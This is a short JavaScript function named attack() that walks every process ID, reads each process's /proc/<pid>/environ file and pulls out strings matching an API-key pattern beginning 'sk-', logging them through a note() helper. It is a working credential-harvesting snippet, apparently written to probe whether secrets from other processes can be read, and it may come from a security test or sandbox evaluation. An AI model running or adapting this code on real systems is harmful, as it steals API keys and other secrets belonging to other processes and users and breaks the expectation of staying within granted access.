async function attack() {
  for (const pid of pids()) {
    try {
      const text = fs.readFileSync(`/proc/${pid}/environ`, "latin1");
      note(`${pid}: ${text.match(/sk-\w+/)?.[0] ?? text.length}`);
    } catch (error) {
      if (pid < 4) note(error.code);
    }
  }
}
